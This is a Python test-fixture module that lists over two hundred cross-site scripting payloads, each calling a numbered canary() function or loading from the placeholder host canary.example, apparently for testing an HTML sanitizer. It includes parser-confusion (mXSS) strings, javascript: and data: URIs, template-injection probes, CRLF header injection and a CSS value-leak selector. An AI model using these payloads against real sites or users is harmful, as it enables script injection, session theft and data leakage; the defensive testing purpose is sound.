"""More than two hundred texts that want to run in somebody's browser, of our own making.

Each calls canary() with its own number, or loads something from CANARY_HOST.
"""

from __future__ import annotations

CANARY_HOST = "canary.example"

_PLAIN = r'''
<script>canary()</script>
<SCRIPT>canary()</SCRIPT>
<ScRiPt >canary()</sCrIpT >
<script	type=text/javascript>canary()</script>
<script/x>canary()</script/y>
<script src=//canary.example/a.js></script>
<script src="https://canary.example/b.js" defer></script>
<script type=module>import "https://canary.example/c.js"</script>
<script async src='data:text/javascript,canary()'></script>
<script>canary()
<<script>canary();//<</script>
<scr<script>ipt>canary()</scr</script>ipt>
<script>/*</script>*/canary()</script>
<script><!-- --></script><script>canary()</script>
<script>canary()</script
<script x=">" >canary()</script>
</script><script>canary()</script>
</title><script>canary()</script>
</textarea><script>canary()</script>
</style><script>canary()</script>
</noscript><script>canary()</script>
</template><script>canary()</script>
</option></select><script>canary()</script>
</iframe><script>canary()</script>
</xmp><script>canary()</script>
</p></div></td></tr></table><script>canary()</script>
</a></h1></main></body><script>canary()</script>
<img src=x onerror=canary()>
<img src=x onerror="canary()">
<img src=x onerror='canary()'>
<img src=x onerror=`canary()`>
<img/src=x/onerror=canary()>
<img src=x:x onerror=canary()//
<IMG SRC=x ONERROR=canary()>
<img src=x one&#114;ror=canary()>
<img src=x onerror=&#99;anary()>
<img src=x onerror="&#x63;anary()">
<img src=x onerror=\u0063anary()>
<img src="data:image/png;base64,x" onerror=canary()>
<img srcset="x 1x" onerror=canary()>
<img srcset="https://canary.example/s.png 1x, javascript:canary() 2x">
<img src="javascript:canary()">
<img dynsrc="javascript:canary()" lowsrc="javascript:canary()">
<img """><script>canary()</script>">
<img src='x' alt='>' onerror=canary()>
<image src=x onerror=canary()>
<picture><source srcset="x"><img src=x onerror=canary()></picture>
<video src=x onerror=canary()></video>
<video><source onerror=canary() src=x></video>
<video poster="javascript:canary()" onloadstart=canary()><source src=x></video>
<audio src=x onerror=canary()></audio>
<audio autoplay onloadstart=canary() src=x></audio>
<body onload=canary()>
<body onpageshow=canary()>
<body background="javascript:canary()">
<svg onload=canary()>
<svg/onload=canary()>
<svg><script>canary()</script></svg>
<svg><script href="data:text/javascript,canary()"/></svg>
<svg><script xlink:href="https://canary.example/d.js"></script></svg>
<svg><animate onbegin=canary() attributeName=x dur=1s></svg>
<svg><set onbegin=canary() attributeName=x to=1></svg>
<svg><a xlink:href="javascript:canary()"><text y=20>svg</text></a></svg>
<svg><a><animate attributeName=href values="javascript:canary()"/><text>go</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.canary()</script>"></iframe></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><image href='x' onerror='canary()'/></svg>#x"/>
<svg><style><img src=x onerror=canary()></style></svg>
<svg><desc><img src=x onerror=canary()></desc></svg>
<svg><title><img src=x onerror=canary()></title></svg>
<svg><image href=x onerror=canary()></svg>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" onload="canary()"/>
<math><mtext><img src=x onerror=canary()></mtext></math>
<math href="javascript:canary()">math</math>
<math><maction actiontype="statusline" xlink:href="javascript:canary()">go</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=canary()></math>
<iframe src="javascript:parent.canary()"></iframe>
<iframe srcdoc="<script>parent.canary()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.canary()&gt;"></iframe>
<iframe srcdoc=&lt;svg/onload=parent.canary()&gt;></iframe>
<iframe src="data:text/html,<script>canary()</script>"></iframe>
<iframe src="https://canary.example/frame"></iframe>
<iframe onload=canary()></iframe>
<iframe sandbox="allow-scripts" srcdoc="<script>parent.canary()</script>"></iframe>
<frameset onload=canary()><frame src="javascript:parent.canary()"></frameset>
<object data="javascript:canary()"></object>
<object data="data:text/html,<script>canary()</script>"></object>
<object data="https://canary.example/o" onerror=canary()></object>
<embed src="javascript:canary()">
<embed src="data:text/html,<script>canary()</script>">
<embed src="https://canary.example/e.swf">
<applet code="https://canary.example/A.class"></applet>
<a href="javascript:canary()">link</a>
<a href=" javascript:canary()">space</a>
<a href="java&#9;script:canary()">tab</a>
<a href="java&#10;script:canary()">line</a>
<a href="java&NewLine;script&colon;canary()">names</a>
<a href="&#1;javascript:canary()">control</a>
<a href="JaVaScRiPt:canary()">case</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;canary()">numbers</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;canary()">hex</a>
<a href="javascript://example.jp/%0Acanary()">comment</a>
<a href="vbscript:canary()">vb</a>
<a href="data:text/html,<script>canary()</script>">data</a>
<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==">base64</a>
<a href="feed:javascript:canary()">feed</a>
<a href="//canary.example" onclick=canary()>click</a>
<a href=x onfocus=canary() autofocus tabindex=1>focus</a>
<a href="x" style="position:fixed;inset:0" onmouseover=canary()>over all</a>
<a id=canary name=canary href="javascript:canary()">clobber</a>
<form action="javascript:canary()"><input type=submit></form>
<form action="https://canary.example/f" method=post><input name=csrf></form>
<form><button formaction="javascript:canary()">go</button></form>
<form id=canary><input name=attributes><input name=action></form>
<isindex action="javascript:canary()" type=submit value=go>
<input onfocus=canary() autofocus>
<input type=image src=x onerror=canary()>
<select autofocus onfocus=canary()></select>
<textarea autofocus onfocus=canary()></textarea>
<button autofocus onfocus=canary()>b</button>
<details open ontoggle=canary()><summary>s</summary></details>
<dialog open onclose=canary() oncancel=canary()></dialog>
<marquee onstart=canary()>m</marquee>
<div style="animation:x 1s" onanimationstart=canary()>a</div>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=canary()>
<div contenteditable autofocus onfocus=canary()>e</div>
<div onpointerenter=canary() style="position:fixed;inset:0">p</div>
<div popover id=pop onbeforetoggle=canary()>p</div><button popovertarget=pop>p</button>
<xss id=x tabindex=1 onfocus=canary() autofocus></xss>
<canary-element onclick=canary()>own</canary-element>
<base href="https://canary.example/">
<base href="javascript:/canary()//" target="_blank">
<meta http-equiv=refresh content="0;url=https://canary.example/m">
<meta http-equiv="refresh" content="0;url=javascript:canary()">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<meta http-equiv="Set-Cookie" content="kawaraban-desk=canary">
<link rel=stylesheet href="https://canary.example/l.css">
<link rel=preload as=script href="https://canary.example/p.js">
<link rel=import href="data:text/html,<script>canary()</script>">
<link rel=manifest href="//canary.example/manifest">
<style>@import "https://canary.example/i.css";</style>
<style>@import url(//canary.example/j.css);</style>
<style>body{background:url("https://canary.example/bg.png")}</style>
<style>*{color:expression(canary());-moz-binding:url(//canary.example/x.xml#x)}</style>
<style>input[value^=a]{background:url(https://canary.example/leak)}</style>
<style></style><img src=x onerror=canary()></style>
<p style="background:url(https://canary.example/q.png)">css</p>
<p style="width:expression(canary())">ie</p>
<p style="behavior:url(#default#time2)" onbegin=canary()>ie</p>
<p style="background-image:\75\72\6C(https://canary.example/r.png)">escaped</p>
<table background="https://canary.example/t.png"><td background="javascript:canary()">t</table>
<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>
<svg></p><style><a id="</style><img src=1 onerror=canary()>">
<noscript><p title="</noscript><img src=x onerror=canary()>">
<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=canary()>">
<table><caption><svg><style><!--</style><img src=x onerror=canary()>--></table>
<template><script>canary()</script></template>
<template shadowrootmode=open><img src=x onerror=canary()></template>
<div><template shadowrootmode=closed><script>canary()</script></template></div>
<select><template><img src=x onerror=canary()></template></select>
<![CDATA[<script>canary()</script>]]>
<svg><![CDATA[><img src=x onerror=canary()>]]></svg>
<!--><script>canary()</script>-->
<!--!><img src=x onerror=canary()>-->
<!-- --!><script>canary()</script> -->
<!-- <!-- --><script>canary()</script> -->
<![if !IE]><script>canary()</script><![endif]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">canary()</script>
<?php echo '<script>canary()</script>' ?>
<% canary() %><script>canary()</script>
<!DOCTYPE x [<!ENTITY c "<script>canary()</script>">]>&c;
<title><img src=x onerror=canary()></title>
"><script>canary()</script>
'><script>canary()</script>
`><script>canary()</script>
"><img src=x onerror=canary()>
'><img src=x onerror=canary()>
 onerror=canary() src=x
" autofocus onfocus="canary()
' autofocus onfocus='canary()
" onmouseover="canary()" x="
' style='position:fixed;inset:0' onmouseover='canary()
"/><svg/onload=canary()>
&quot;><script>canary()</script>
&lt;script&gt;canary()&lt;/script&gt;
&amp;lt;img src=x onerror=canary()&amp;gt;
&#60;img src=x onerror=canary()&#62;
%3Cscript%3Ecanary()%3C/script%3E
\x3cscript\x3ecanary()\x3c/script\x3e
\u003cimg src=x onerror=canary()\u003e
';canary();//
";canary();//
\';canary();//
</script><svg onload=canary()>
${canary()}
`+canary()+`
{{ canary() }}
{{ ''.__class__.__mro__[1].__subclasses__() }}{% raw %}<script>canary()</script>{% endraw %}
{{ "<script>canary()</script>"|safe }}
{% autoescape false %}<img src=x onerror=canary()>{% endautoescape %}
{{constructor.constructor('canary()')()}}
<%= canary() %>#{canary()}
[link](javascript:canary())
[link](<javascript:canary()>)
[link](java	script:canary())
[link](data:text/html,<script>canary()</script>)
[link](https://canary.example/"onmouseover="canary())
[link]( &#106;avascript:canary() "title\" onclick=canary()")
![image](javascript:canary())
![image"onerror="canary()](x)
![x](x "t\"onerror=canary() x=\"")
<javascript:canary()>
[a]: javascript:canary()
```<img src=x onerror=canary()>
'''

_WITH_ODD_CHARACTERS = (
    "<script>canary()\u2028</script>",
    "';\u2029canary();//",
    "<img src=x\u000conerror=canary()>",
    "<img src=x \u00a0onerror=canary()>",
    "<a href='\u0001javascript:canary()'>one</a>",
    "<a href='\u3000javascript:canary()'>wide</a>",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "<\u017fcript>canary()</\u017fcript>",
    "<\u200bscript>canary()</script>",
    "\u202e>tpircs/<)(yranac>tpircs<\u202c<script>canary()</script>",
    "\u2066<img src=x onerror=canary()>\u2069",
    "\ufeff<script>canary()</script>",
    "<img src=x onerror=canary()>\ufffd",
    "x\r\nSet-Cookie: canary=1\r\n\r\n<script>canary()</script>",
    "x\nContent-Type: text/html\n\n<svg onload=canary()>",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    '=HYPERLINK("https://canary.example","x")<script>canary()</script>',
    "@SUM(1)<img src=x onerror=canary()>",
    "%0d%0aLocation:%20https://canary.example%0d%0a<script>canary()</script>",
    "//canary.example/\\@example.jp<script>canary()</script>",
)

_SWALLOWING = (
    "<textarea><img src=x onerror=canary()>",
    "<xmp><script>canary()</script>",
    "<noscript><script>canary()</script>",
    "<svg><style>",
    "<!-- <img src=x onerror=canary()>",
    "<plaintext><script>canary()</script>",
)
"""They come last in a pack: where one is let through, nothing behind it is markup any more."""

_ALL = (*_PLAIN.strip("\n").split("\n"), *_WITH_ODD_CHARACTERS, *_SWALLOWING)

PAYLOADS: tuple[str, ...] = tuple(
    text.replace("canary()", f"canary({number})") for number, text in enumerate(_ALL)
)


def pack(*, most: int = 0, part: int = 0, parts: int = 1) -> str:
    """Many payloads in one text: one of several parts of them, of `most` characters at most."""
    chosen = PAYLOADS[part::parts]
    text = ""
    for payload in chosen:
        if most and len(text) + len(payload) + 1 > most:
            break
        text += f"{payload} "
    return text.strip()
